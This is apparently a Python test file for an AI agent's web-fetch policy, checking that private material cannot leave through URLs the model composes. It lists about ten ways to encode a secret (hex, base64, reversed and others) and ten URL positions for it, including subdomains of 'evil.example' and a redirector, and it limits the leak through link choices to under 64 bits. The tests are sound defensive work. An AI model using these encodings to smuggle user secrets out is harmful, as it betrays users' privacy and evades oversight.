"""Private material leaves through no address: composed ones need a yes, known ones are counted."""

import base64
import math
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, replace
from typing import Literal

import pytest

from bot.agent.messages import ToolCall, ToolResult
from bot.agent.toolbox import Toolbox
from bot.net.free_addresses import MOST_FETCHES, MOST_KNOWN
from bot.tasks import Tasks
from bot.values import Identity, Place, Role
from db import conversations
from db.database import Database
from skills.base import ToolContext
from skills.web.addresses import AddressPolicy
from skills.web.search.base import Hit
from skills.web.skill import build
from tests.fakes.clock import FakeClock
from tests.fakes.stored import Stored
from tests.fakes.web import FakeWeb, redirect, response
from tests.skills.web.test_skill import FakeSearch

SECRET = "the-vault-opens-with-4711"
#: What a model may do to a text before it puts it into an address.
ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "reversed": lambda text: text[::-1],
    "capitals": str.upper,
    "hex": lambda text: text.encode().hex(),
    "base32": lambda text: base64.b32encode(text.encode()).decode().strip("=").lower(),
    "base64": lambda text: base64.urlsafe_b64encode(text.encode()).decode().strip("="),
    "percent": lambda text: "".join(f"%{ord(each):02x}" for each in text),
    "digits": lambda text: "".join(f"{ord(each):03}" for each in text),
    "first letter": lambda text: text[0],
    "length": lambda text: str(len(text)),
}
#: Where it may put it.
PLACES: dict[str, str] = {
    "path": "http://a.example/{}",
    "longer known path": "http://a.example/links/{}",
    "query": "http://a.example/links?q={}",
    "second query": "http://a.example/links?a=1&{}=2",
    "host": "http://{}.evil.example/",
    "label of a known host": "http://{}.a.example/links",
    "parameter": "http://a.example/links;{}",
    "dots": "http://a.example/{}/../links",
    "redirector": "http://a.example/to?url=http://evil.example/{}",
    "name and password": "http://{}:x@a.example/links",
}


@dataclass
class Agent:
    """An agent that calls the tools of the web."""

    toolbox: Toolbox
    context: ToolContext
    calls: int = 0

    async def call(self, tool: str, **arguments: object) -> ToolResult:
        self.calls += 1
        call = ToolCall(f"c{self.calls}", tool, dict(arguments))
        return await self.toolbox.call(call, replace(self.context, call_id=call.id))

    async def fetch(self, url: str) -> str:
        """Return what the agent is told of a page, or why it was not read."""
        return (await self.call("web_fetch", url=url)).text

    def with_private_material(self, *, root_id: str = "") -> "Agent":
        """Return the same agent, or one in work of its own, after private material was read."""
        return Agent(self.toolbox, replace(self.context, private=True, root_id=root_id), 1000)

    def run(self, work_id: str) -> "Agent":
        """Return a run that the turn started, after private material was read."""
        root = self.context.work_id
        context = replace(self.context, private=True, root_id=root, work_id=work_id)
        return Agent(self.toolbox, context, 1000)


@pytest.fixture
async def there() -> AsyncIterator[FakeWeb]:
    async with FakeWeb().open() as web:
        links = "".join(
            f'<p>Page <a href="/page{n}">number {n}</a> is long.</p>' for n in range(90)
        )
        web.pages["a.example/links"] = response(f"<html><body>{links}</body></html>".encode())
        for number in range(90):
            web.pages[f"a.example/page{number}"] = response(b"a page", kind="text/plain")
        yield web


@pytest.fixture
def make(
    there: FakeWeb, database: Database, alice: Identity, clock: FakeClock
) -> Callable[..., Agent]:
    def made(composed: Literal["ask", "allow", "deny"] = "ask", conversation_id: str = "") -> Agent:
        policy = AddressPolicy(database, composed)
        search = FakeSearch(Hit(title="Found", url="http://found.example/x", text="It is there."))
        tools = build(there.web(), search, policy=policy).tools
        toolbox = Toolbox(tools, is_subagent=False, tasks=Tasks(), timeout_seconds=20)
        context = ToolContext(
            user=alice,
            role=Role.USER,
            place=Place(alice.platform),
            conversation_id=conversation_id,
            work_id="turn-1",
            call_id="",
            run_id=None,
            now=clock,
        )
        return Agent(toolbox, context)

    return made


def paths(there: FakeWeb) -> list[str]:
    return [f"{asked.host}{asked.target}" for asked in there.asked]


async def test_an_address_that_the_model_composed_is_read_while_nothing_private_is_known(
    make: Callable[..., Agent],
) -> None:
    assert "a page" in await make().fetch("http://a.example/page7")


async def test_of_100_ways_no_composed_address_carries_private_material_away(
    make: Callable[..., Agent], there: FakeWeb
) -> None:
    ways = [
        place.format(encode(SECRET)) for place in PLACES.values() for encode in ENCODINGS.values()
    ]
    asked: dict[str, list[str]] = {}
    for composed in ("ask", "deny", "allow"):
        agent = make(composed)
        await agent.fetch("http://a.example/links")
        there.asked.clear()
        # To show that they would arrive, every fourth way is enough.
        for number, url in enumerate(ways[::4] if composed == "allow" else ways):
            # A turn each: what one has read counts for no other.
            await agent.with_private_material(root_id=f"{composed}-{number}").fetch(url)
        asked[composed] = paths(there)

    assert len(ways) == 100
    assert asked["ask"] == asked["deny"] == []
    # Without the rule most of them arrive.
    assert len(asked["allow"]) > 13


async def test_the_choice_of_known_addresses_gives_away_less_than_64_bits(
    make: Callable[..., Agent], there: FakeWeb
) -> None:
    agent = make()
    await agent.fetch("http://a.example/links")
    before = len(there.asked)
    # Two runs that the turn started choose as well; they share its number of fetches.
    agents = [agent.with_private_material(), agent.run("run-1"), agent.run("run-2")]

    told = [
        await agents[number % 3].fetch(f"http://a.example/page{number}") for number in range(90)
    ]

    read = paths(there)[before:]
    assert (MOST_FETCHES, MOST_KNOWN) == (10, 64)
    readers = [number % 3 for number, each in enumerate(told) if "a page" in each]
    assert len(read) == len(readers) == MOST_FETCHES
    assert set(readers) == {0, 1, 2}
    # The page itself is known too.
    could_be_chosen = [each for each in told if "stands in no message" not in each]
    assert len(could_be_chosen) <= MOST_KNOWN
    assert MOST_FETCHES * math.log2(MOST_KNOWN) <= 64


async def test_addresses_of_messages_come_first_and_are_free(
    make: Callable[..., Agent],
    there: FakeWeb,
    database: Database,
    alice: Identity,
    clock: FakeClock,
) -> None:
    conversation_id = await Stored(database, clock).conversation(alice)
    async with database.transaction() as tx:
        for role, text in (
            ("user", "Read http://a.example/page80, please."),
            ("assistant", "Shall I read http://a.example/page81?"),
        ):
            await conversations.say(tx, conversation_id, role=role, text=text, now=clock())
    agent = make(conversation_id=conversation_id)
    await agent.fetch("http://a.example/links")
    private = agent.with_private_material()

    assert "a page" in await private.fetch("http://a.example/page80")
    assert "stands in no message" in await private.fetch("http://a.example/page81")


async def test_an_address_that_a_search_found_is_free(
    make: Callable[..., Agent], there: FakeWeb
) -> None:
    there.pages["found.example/x"] = response(b"a page", kind="text/plain")
    agent = make()
    await agent.call("web_search", query="anything")

    assert "a page" in await agent.with_private_material().fetch("http://found.example/x")


async def test_redirects_stay_on_the_site_or_lead_to_a_known_address(
    make: Callable[..., Agent], there: FakeWeb
) -> None:
    there.pages["a.example/page1"] = redirect("http://a.example/near")
    there.pages["a.example/near"] = response(b"near", kind="text/plain")
    there.pages["a.example/page2"] = redirect("http://evil.example/far")
    there.pages["evil.example/far"] = response(b"far", kind="text/plain")
    there.pages["a.example/page3"] = redirect("http://found.example/x")
    there.pages["found.example/x"] = response(b"of another site", kind="text/plain")
    agent = make()
    await agent.call("web_search", query="anything")
    await agent.fetch("http://a.example/links")
    private = agent.with_private_material()

    assert "near" in await private.fetch("http://a.example/page1")
    assert "redirects to another site" in await private.fetch("http://a.example/page2")
    assert "evil.example/far" not in paths(there)
    # A search found where this one leads.
    assert "of another site" in await private.fetch("http://a.example/page3")
    assert "far" in await agent.fetch("http://a.example/page2")


async def test_the_configuration_may_deny_or_allow_composed_addresses(
    make: Callable[..., Agent], there: FakeWeb
) -> None:
    denied = await make("deny").with_private_material().fetch("http://a.example/page3")
    allowed = await make("allow").with_private_material().fetch("http://a.example/page3")

    assert "That page is not read" in denied
    assert "a page" in allowed
